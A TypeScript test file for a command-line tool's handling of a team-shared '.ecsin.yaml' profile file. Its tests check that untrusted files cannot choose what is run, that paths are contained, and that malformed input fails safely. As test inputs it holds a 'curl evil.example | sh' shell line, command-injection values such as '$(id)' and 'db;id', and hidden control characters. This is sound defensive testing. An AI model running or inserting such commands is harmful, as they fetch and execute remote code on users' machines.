// A team's `.ecsin.yaml`: where it is found, what a stranger may say in it, and that it breaks nothing.
import assert from "node:assert/strict";
import type { EcsinError } from "../../src/error.ts";
import { errorText } from "../../src/error_text.ts";
import { readAll, readProfile } from "../../src/profiles/read.ts";
import { type IsTrusted, readShared } from "../../src/profiles/shared.ts";
import { PROFILE_KEYS } from "../../src/profiles/schema.ts";
import { inFolder } from "./in_folder.ts";
import { needs } from "../needs.ts";

const OWN = "defaults: {shell: mine, region: eu-west-1}\nprofiles:\n  web: {cluster: own}\n";
const TEAM = "defaults: {region: eu-north-1}\nprofiles:\n  web: {cluster: team}\n" +
  "  db: {cluster: team, service: db, confirm: name, accountId: '123456789012', color: red}\n";
const nobody: IsTrusted = () => Promise.resolve(false);

/** A home with the person's own file, and a repository in it with the team's. */
async function inRepository(
  team: string,
  tell: (at: { home: string; repo: string; env: (name: string) => string | undefined }) => Promise<
    void
  >,
): Promise<void> {
  await inFolder(async (home) => {
    const repo = `${home}/repo`;
    await Deno.mkdir(`${home}/.config/ecsin`, { recursive: true });
    await Deno.mkdir(`${repo}/.git`, { recursive: true });
    await Deno.mkdir(`${repo}/deep/er`, { recursive: true });
    await Deno.writeTextFile(`${home}/.config/ecsin/profiles.yaml`, OWN);
    await Deno.writeTextFile(`${repo}/.ecsin.yaml`, team);
    await tell({ home, repo, env: (name) => name === "HOME" ? home : undefined });
  });
}

const read = (
  name: string,
  env: (name: string) => string | undefined,
  cwd: string,
  isTrusted: IsTrusted = nobody,
) => readProfile(name, {}, env, { debug: () => {}, isTrusted, cwd });

/** Where a shared file is found from a folder, by the folder it is in. */
async function foundFrom(cwd: string, own = "/nowhere/profiles.yaml") {
  return (await readShared({ file: own }, cwd))?.file;
}

const faultOf = async (cwd: string, own = "/nowhere/profiles.yaml") => {
  const shared = await readShared({ file: own }, cwd);
  return shared !== undefined && "fault" in shared
    ? errorText(shared.fault).replaceAll(cwd, "DIR")
    : undefined;
};

Deno.test("the nearest .ecsin.yaml counts, up to the root of the repository and no further", () =>
  inRepository(TEAM, async ({ home, repo }) => {
    await Deno.writeTextFile(`${home}/.ecsin.yaml`, TEAM);
    assert.equal(await foundFrom(`${repo}/deep/er`), `${repo}/.ecsin.yaml`);
    await Deno.writeTextFile(`${repo}/deep/.ecsin.yaml`, TEAM);
    assert.equal(await foundFrom(`${repo}/deep/er`), `${repo}/deep/.ecsin.yaml`);
    // A submodule or worktree has a file there.
    await Deno.writeTextFile(`${repo}/deep/er/.git`, "gitdir: ../../.git\n");
    assert.equal(await foundFrom(`${repo}/deep/er`), undefined);
    await Deno.remove(`${repo}/.ecsin.yaml`);
    assert.equal(await foundFrom(repo), undefined);
    // Without a repository only the working directory itself.
    assert.equal(await foundFrom(home), `${home}/.ecsin.yaml`);
    assert.equal(await foundFrom(`${home}/.config`), undefined);
    assert.equal(await foundFrom(`${home}/gone`), undefined);
  }));

Deno.test("a shared file adds; the person's own wins, and defaults stay in their own file", () =>
  inRepository(TEAM, async ({ home, repo, env }) => {
    const { profiles, sharedFile } = await readAll({}, env, `${repo}/deep`);
    const own = `${home}/.config/ecsin/profiles.yaml`;
    const shared = `${repo}/.ecsin.yaml`;
    assert.equal(sharedFile, shared);
    const web = { cluster: "own", shell: "mine", region: "eu-west-1" };
    const db = {
      region: "eu-north-1",
      cluster: "team",
      service: "db",
      confirm: "name",
      accountId: "123456789012",
      color: "red",
    } as const;
    assert.deepEqual(profiles, [
      { name: "web", profile: web, file: own, isShared: false },
      { name: "db", profile: db, file: shared, isShared: true },
    ]);
    assert.deepEqual((await read("web", env, repo)).profile, web);
    assert.deepEqual((await read("db", env, repo)).profile, db);
    await assert.rejects(read("dd", env, repo), (error: EcsinError) => {
      assert.equal(
        errorText(error).replaceAll(home, "HOME"),
        [
          'ecsin: error: there is no profile or command "dd"',
          "  why:  HOME/.config/ecsin/profiles.yaml has web",
          "        HOME/repo/.ecsin.yaml has web, db",
          "  next: ecsin list profiles",
          "        ecsin --help",
        ].join("\n"),
      );
      assert.deepEqual(error.failure.meant, { word: "dd", by: ["db"] });
      return true;
    });
  }));

Deno.test("no shared file is read where the person names a file, or where it is their own", () =>
  inRepository(TEAM, async ({ home, repo }) => {
    const file = `${home}/.config/ecsin/profiles.yaml`;
    assert.equal(await readShared({ file, namedBy: "--profiles" }, repo), undefined);
    assert.equal(await readShared({ file, namedBy: "$ECSIN_PROFILES" }, repo), undefined);
    assert.equal(await foundFrom(repo, `${repo}/.ecsin.yaml`), undefined);
    if (Deno.build.os === "windows") return;
    // Dotfiles in a repository: one file by two names.
    await Deno.remove(file);
    await Deno.symlink(`${repo}/.ecsin.yaml`, file);
    assert.equal(await foundFrom(repo, file), undefined);
  }));

Deno.test("until it is trusted a shared file may choose a place, and not what is run", () =>
  inRepository(
    "defaults: {shell: curl evil.example | sh}\nprofiles:\n  db: {cluster: team}\n" +
      "  web2: {cluster: team, shell: auto}\n",
    async ({ repo, env }) => {
      await assert.rejects(read("db", env, repo), (error: EcsinError) => {
        assert.equal(
          errorText(error).replaceAll(repo, "REPO"),
          [
            'ecsin: error: profile "db" of REPO/.ecsin.yaml is used only once you trust that file',
            "  why:  it chooses what is run, or how:",
            "        shell: curl evil.example | sh",
            "  next: ecsin profile show db",
            "        ecsin profile trust",
          ].join("\n"),
        );
        return error.exitCode === 2;
      });
      assert.deepEqual((await read("web2", env, repo)).profile, { cluster: "team", shell: "auto" });
      // Whoever takes a profile out of the list gets no line of the file either.
      const { profiles } = await readAll({}, env, repo);
      assert.deepEqual(profiles.find(({ name }) => name === "db"), {
        name: "db",
        profile: { cluster: "team" },
        file: `${repo}/.ecsin.yaml`,
        isShared: true,
        heldBack: { shell: "curl evil.example | sh" },
      });
      const asked: unknown[] = [];
      const somebody: IsTrusted = (shared) => {
        asked.push(shared.file);
        return Promise.resolve(/^[0-9a-f]{64}$/.test(shared.sha256));
      };
      const { profile } = await read("db", env, repo, somebody);
      assert.deepEqual(profile, { cluster: "team", shell: "curl evil.example | sh" });
      assert.deepEqual(asked, [`${repo}/.ecsin.yaml`]);
    },
  ));

Deno.test("whatever key a profile gets one day, a shared file may not say it untrusted", () =>
  inRepository("profiles:\n  db: {cluster: team}\n", async ({ repo }) => {
    const examples: Record<string, string> = {
      pick: "newest",
      session: "native",
      confirm: "name",
      accountId: "'123456789012'",
      color: "red",
      region: "eu-north-1",
      forwards: "{db: 5432}",
      commands: "{console: bin/rails console}",
    };
    const held: string[] = [];
    for (const key of PROFILE_KEYS) {
      const text = `profiles: {db: {${key}: ${examples[key] ?? "x"}}}\n`;
      await Deno.writeTextFile(`${repo}/.ecsin.yaml`, text);
      const shared = await readShared({ file: "/nowhere" }, repo);
      assert.ok(shared !== undefined && "profiles" in shared, text);
      if (shared.profiles[0]?.heldBack !== undefined) held.push(key);
    }
    assert.deepEqual(held, ["shell", "forwards", "commands"]);
  }));

Deno.test("what would do harm in a line to paste is held back, or is no name", () =>
  inRepository("profiles: {db: {cluster: 'x; curl evil.example'}}\n", async ({ repo, env }) => {
    await assert.rejects(read("db", env, repo), /is used only once you trust that file/);
    for (const value of ["--debug", "$(id)", "a b", "`id`", "x\\ny"]) {
      await Deno.writeTextFile(
        `${repo}/.ecsin.yaml`,
        `profiles: {db: {awsProfile: ${JSON.stringify(value)}}}\n`,
      );
      await assert.rejects(read("db", env, repo), /is used only once you trust that file/, value);
    }
    await Deno.writeTextFile(`${repo}/.ecsin.yaml`, 'profiles: {"db;id": {cluster: x}}\n');
    assert.equal(
      await faultOf(repo),
      [
        'ecsin: error: DIR/.ecsin.yaml: a shared profile cannot be called "db;id"',
        "  why:  such a name has letters and digits, and _ . / @ - : = + , % behind the first of them",
        "  next: ecsin profile edit --profiles DIR/.ecsin.yaml",
      ].join("\n"),
    );
  }));

Deno.test("nothing of a shell line is hidden from who is to trust it", () =>
  inRepository(
    'profiles: {db: {shell: "ok\\e[2K\\u202Edlrow\\u200b\\nsecond"}}\n',
    ({ repo, env }) =>
      assert.rejects(read("db", env, repo), (error: EcsinError) => {
        assert.match(
          errorText(error),
          /shell: ok\\u\{1b\}\[2K\\u\{202e\}dlrow\\u\{200b\}\\u\{a\}second$/m,
        );
        return true;
      }),
  ));

Deno.test("a shared file that cannot be used breaks nothing else, and is told", () =>
  inRepository("profiles: [\n", async ({ home, repo, env }) => {
    assert.equal((await read("web", env, repo)).profile.cluster, "own");
    const { profiles, sharedFault } = await readAll({}, env, repo);
    assert.deepEqual(profiles.map(({ name }) => name), ["web"]);
    assert.match(sharedFault?.message ?? "", /\.ecsin\.yaml:2:1: not valid YAML/);
    await assert.rejects(read("db", env, repo), (error: EcsinError) => {
      assert.match(
        errorText(error),
        /no profile or command "db"\n.*has web\n +\S*\.ecsin\.yaml:2:1/,
      );
      return true;
    });
    const file = `${repo}/.ecsin.yaml`;
    await Deno.writeTextFile(file, `profiles:\n${" a:\n".repeat(1 << 15)}`);
    assert.match(
      await faultOf(repo) ?? "",
      /too large for a shared profiles file \(131082 bytes\)/,
    );
    await Deno.writeTextFile(file, "[".repeat(60_000));
    assert.match(await faultOf(repo) ?? "", /not valid YAML/);
    await Deno.writeTextFile(file, `a: &a [x]\nb: [${"*a,".repeat(10_000)}]\n`);
    assert.match(await faultOf(repo) ?? "", /an alias cannot be followed/);
    await Deno.writeFile(file, new Uint8Array([0xff]));
    assert.match(await faultOf(repo) ?? "", /this line is not UTF-8/);
    await Deno.remove(file);
    await Deno.mkdir(file);
    assert.match(await faultOf(repo) ?? "", /it is a folder/);
    if (Deno.build.os === "windows") return;
    const link = async (to: string) => {
      await Deno.remove(file);
      await Deno.symlink(to, file);
      return await faultOf(repo) ?? "";
    };
    assert.match(await link(`${repo}/gone`), /No such file/);
    assert.match(await link(".ecsin.yaml"), /Too many/);
    // A stranger's file may not have another file's lines told, nor be read for ever.
    await Deno.writeTextFile(`${home}/secret`, "password: hunter2\n");
    const told = await link(`${home}/secret`);
    assert.match(told, /why: {2}it is a link that leads out of DIR$/m);
    assert.doesNotMatch(told, /hunter2/);
    assert.match(await link("/dev/zero"), /leads out of DIR/);
    // A link within the repository is the repository's own matter.
    await Deno.writeTextFile(`${repo}/deep/team.yaml`, TEAM);
    assert.equal(await link("deep/team.yaml"), "");
    assert.equal((await read("db", env, repo)).file, file);
  }));

Deno.test(
  needs("a pipe in a shared file's place is not waited for", "mkfifo"),
  () =>
    inRepository("profiles: {}\n", async ({ repo }) => {
      const file = `${repo}/.ecsin.yaml`;
      await Deno.remove(file);
      await new Deno.Command("mkfifo", { args: [file] }).output();
      assert.match(await faultOf(repo) ?? "", /it is not a plain file/);
    }),
);

Deno.test({
  ...needs("another user's file is not read", "unix", "root"),
  fn: () =>
    inRepository(TEAM, async ({ repo }) => {
      await Deno.chown(`${repo}/.ecsin.yaml`, 12_345, null);
      assert.match(
        await faultOf(repo) ?? "",
        /why: {2}it belongs to another user\n {2}next: ecsin --profiles DIR\/\.ecsin\.yaml$/,
      );
    }),
});
